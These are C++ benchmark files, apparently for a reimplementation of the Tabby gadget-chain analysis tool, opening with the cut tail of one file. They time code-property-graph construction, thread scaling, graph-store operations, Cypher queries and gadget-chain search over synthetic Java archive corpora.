                   util::format_double(median, 3), util::format_double(us_per_edge, 2)});
  }

  std::printf("%s\n", table.render().c_str());
  std::printf("linearity check: time/edge at the smallest row = %.2f us, at the largest = %.2f "
              "us (paper: \"approximately linear correlation between the execution time and the "
              "count of class/method\")\n",
              first_ratio, last_ratio);
  return 0;
}
