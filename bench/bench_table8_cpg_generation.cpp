// Reproduces Table VIII (RQ1): CPG generation efficiency. Generates seeded
// noise corpora at increasing sizes, builds the CPG for each (3 runs, middle
// value kept — the paper runs 10 and trims the extremes), and prints the
// same columns the paper reports. The absolute scale is smaller than the
// paper's real-jar corpus (simulated archives are denser than bytecode);
// the claim under test is the *linear* relationship between node/edge count
// and build time.
#include <algorithm>
#include <cstdio>
#include <memory>

#include "corpus/noise.hpp"
#include "cpg/builder.hpp"
#include "jar/archive.hpp"
#include "util/strings.hpp"
#include "util/table.hpp"
#include "util/thread_pool.hpp"
#include "util/timer.hpp"

using namespace tabby;

int main() {
  std::printf("Table VIII — CPG generation efficiency (RQ1)\n");
  std::printf("paper row N 'MB' is simulated as N x 100 KiB of TJAR archive data\n\n");

  util::Table table({"Code amount(MB)", "Jar file count", "Class nodes", "Method nodes",
                     "Relationship edges", "Time(s)", "us/edge"});

  const int kPaperRows[] = {10, 20, 30, 40, 50, 100, 150};
  double first_ratio = 0.0;
  double last_ratio = 0.0;

  for (int row : kPaperRows) {
    std::size_t target = static_cast<std::size_t>(row) * 100 * 1024;
    std::size_t actual = 0;
    std::vector<jar::Archive> jars =
        corpus::make_scaled_corpus(target, /*seed=*/0xCAFE + static_cast<std::uint64_t>(row),
                                   &actual);
    jir::Program program = jar::link(jars);

    // 3 timed builds, keep the median.
    double times[3];
    cpg::CpgStats stats;
    for (double& t : times) {
      util::Stopwatch watch;
      cpg::Cpg cpg = cpg::build_cpg(program);
      t = watch.elapsed_seconds();
      stats = cpg.stats;
    }
    std::sort(std::begin(times), std::end(times));
    double median = times[1];

    double us_per_edge = stats.relationship_edges == 0
                             ? 0.0
                             : median * 1e6 / static_cast<double>(stats.relationship_edges);
    if (row == kPaperRows[0]) first_ratio = us_per_edge;
    last_ratio = us_per_edge;

    table.add_row({util::format_double(static_cast<double>(actual) / (1024.0 * 1024.0) * 10.0, 0),
                   std::to_string(jars.size()), std::to_string(stats.class_nodes),
                   std::to_string(stats.method_nodes), std::to_string(stats.relationship_edges),
                   util::format_double(median, 3), util::format_double(us_per_edge, 2)});
  }

  std::printf("%s\n", table.render().c_str());
  std::printf("linearity check: time/edge at the smallest row = %.2f us, at the largest = %.2f "
              "us (paper: \"approximately linear correlation between the execution time and the "
              "count of class/method\")\n",
              first_ratio, last_ratio);

  // Thread sweep: the same build fanned across the --jobs worker pool. The
  // parallel stages (controllability waves, call/alias payloads, index
  // back-fills) produce a bit-identical CPG at every job count, so this only
  // measures wall clock. Speedup is relative to jobs=1 (the serial pipeline).
  std::printf("\nThread sweep — parallel CPG build (50-row corpus, median of 3)\n");
  std::size_t sweep_actual = 0;
  std::vector<jar::Archive> sweep_jars =
      corpus::make_scaled_corpus(50 * 100 * 1024, /*seed=*/0xCAFE + 50, &sweep_actual);
  jir::Program sweep_program = jar::link(sweep_jars);

  std::vector<unsigned> job_counts{1, 2, 4, util::ThreadPool::default_jobs()};
  std::sort(job_counts.begin(), job_counts.end());
  job_counts.erase(std::unique(job_counts.begin(), job_counts.end()), job_counts.end());

  util::Table sweep({"Jobs", "Time(s)", "Speedup", "Mode"});
  double serial_time = 0.0;
  for (unsigned jobs : job_counts) {
    std::unique_ptr<util::ThreadPool> pool;
    cpg::CpgOptions options;
    if (jobs > 1) {
      pool = std::make_unique<util::ThreadPool>(jobs);
      options.executor = pool.get();
    }
    double times[3];
    for (double& t : times) {
      util::Stopwatch watch;
      cpg::Cpg cpg = cpg::build_cpg(sweep_program, options);
      t = watch.elapsed_seconds();
    }
    std::sort(std::begin(times), std::end(times));
    double median = times[1];
    if (jobs == 1) serial_time = median;
    double speedup = median > 0.0 ? serial_time / median : 0.0;
    sweep.add_row({std::to_string(jobs), util::format_double(median, 3),
                   util::format_double(speedup, 2) + "x",
                   jobs > 1 ? "wave-scheduled" : "serial (demand-driven)"});
  }
  std::printf("%s\n", sweep.render().c_str());
  std::printf("hardware threads available: %u\n", util::ThreadPool::default_jobs());
  return 0;
}
