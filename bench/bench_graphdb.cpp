// Micro-benchmarks (google-benchmark) for the embedded graph store, the
// traversal engine, the Cypher layer and the controllability analysis —
// the infrastructure costs behind the Table VIII build times and the
// Table X search times.
#include <benchmark/benchmark.h>

#include "corpus/components.hpp"
#include "corpus/noise.hpp"
#include "cpg/builder.hpp"
#include "cypher/cypher.hpp"
#include "finder/finder.hpp"
#include "graph/serialize.hpp"
#include "util/rng.hpp"

using namespace tabby;

namespace {

graph::GraphDb random_graph(std::size_t nodes, std::size_t edges, bool with_index) {
  graph::GraphDb db;
  util::Rng rng(99);
  for (std::size_t i = 0; i < nodes; ++i) {
    db.add_node("Method",
                {{"NAME", graph::Value{std::string("m") + std::to_string(i % 64)}},
                 {"ID", graph::Value{static_cast<std::int64_t>(i)}}});
  }
  for (std::size_t i = 0; i < edges; ++i) {
    db.add_edge(rng.next_below(nodes), rng.next_below(nodes), "CALL");
  }
  if (with_index) db.create_index("Method", "NAME");
  return db;
}

void BM_NodeInsert(benchmark::State& state) {
  for (auto _ : state) {
    graph::GraphDb db;
    for (int i = 0; i < state.range(0); ++i) {
      db.add_node("Method", {{"NAME", graph::Value{std::string("m")}}});
    }
    benchmark::DoNotOptimize(db.node_count());
  }
  state.SetItemsProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_NodeInsert)->Arg(1000)->Arg(10000);

void BM_EdgeInsert(benchmark::State& state) {
  for (auto _ : state) {
    state.PauseTiming();
    graph::GraphDb db;
    for (int i = 0; i < 1000; ++i) db.add_node("N");
    util::Rng rng(7);
    state.ResumeTiming();
    for (int i = 0; i < state.range(0); ++i) {
      db.add_edge(rng.next_below(1000), rng.next_below(1000), "CALL");
    }
    benchmark::DoNotOptimize(db.edge_count());
  }
  state.SetItemsProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_EdgeInsert)->Arg(10000);

void BM_IndexedLookup(benchmark::State& state) {
  graph::GraphDb db = random_graph(20000, 0, true);
  for (auto _ : state) {
    auto hits = db.find_nodes("Method", "NAME", graph::Value{std::string("m17")});
    benchmark::DoNotOptimize(hits);
  }
}
BENCHMARK(BM_IndexedLookup);

void BM_LabelScanLookup(benchmark::State& state) {
  graph::GraphDb db = random_graph(20000, 0, false);
  for (auto _ : state) {
    auto hits = db.find_nodes("Method", "NAME", graph::Value{std::string("m17")});
    benchmark::DoNotOptimize(hits);
  }
}
BENCHMARK(BM_LabelScanLookup);

void BM_TraversalDepth4(benchmark::State& state) {
  graph::GraphDb db = random_graph(2000, 8000, false);
  auto expand = [](const graph::GraphDb& g, const graph::Path& path, const int& s) {
    std::vector<graph::Step<int>> steps;
    for (graph::EdgeId e : g.out_edges(path.end())) {
      steps.push_back(graph::Step<int>{e, g.edge(e).to, s});
    }
    return steps;
  };
  auto evaluate = [](const graph::GraphDb&, const graph::Path& path, const int&) {
    return path.length() >= 4 ? graph::Evaluation::ExcludeAndPrune
                              : graph::Evaluation::ExcludeAndContinue;
  };
  for (auto _ : state) {
    graph::TraversalLimits limits;
    limits.max_expansions = 200000;
    graph::Traverser<int> t(db, expand, evaluate, graph::Uniqueness::NodePath, limits);
    auto results = t.run(0, 0);
    benchmark::DoNotOptimize(results);
  }
}
BENCHMARK(BM_TraversalDepth4);

void BM_SerializeRoundTrip(benchmark::State& state) {
  graph::GraphDb db = random_graph(5000, 20000, false);
  for (auto _ : state) {
    auto bytes = graph::serialize(db);
    auto loaded = graph::deserialize(bytes);
    benchmark::DoNotOptimize(loaded.ok());
  }
}
BENCHMARK(BM_SerializeRoundTrip);

void BM_CypherVarLengthQuery(benchmark::State& state) {
  corpus::Component component = corpus::build_component("commons-collections(3.2.1)");
  cpg::Cpg cpg = cpg::build_cpg(component.link());
  for (auto _ : state) {
    auto result = cypher::run_query(
        cpg.db,
        "MATCH (m:Method {IS_SOURCE: true})-[:CALL*1..6]->(s:Method {IS_SINK: true}) "
        "RETURN m.SIGNATURE LIMIT 50");
    benchmark::DoNotOptimize(result.ok());
  }
}
BENCHMARK(BM_CypherVarLengthQuery);

void BM_CpgBuild(benchmark::State& state) {
  jar::Archive noise = corpus::make_noise_archive("bench.jar", "bench.pkg",
                                                  static_cast<int>(state.range(0)), 5);
  jir::Program program = jar::link({noise});
  for (auto _ : state) {
    cpg::Cpg cpg = cpg::build_cpg(program);
    benchmark::DoNotOptimize(cpg.stats.relationship_edges);
  }
  state.SetItemsProcessed(state.iterations() * state.range(0));
}
BENCHMARK(BM_CpgBuild)->Arg(100)->Arg(500);

void BM_GadgetChainSearch(benchmark::State& state) {
  corpus::Component component = corpus::build_component("commons-collections(3.2.1)");
  cpg::Cpg cpg = cpg::build_cpg(component.link());
  for (auto _ : state) {
    finder::GadgetChainFinder finder(cpg.db);
    finder::FinderReport report = finder.find_all();
    benchmark::DoNotOptimize(report.chains.size());
  }
}
BENCHMARK(BM_GadgetChainSearch);

}  // namespace

BENCHMARK_MAIN();
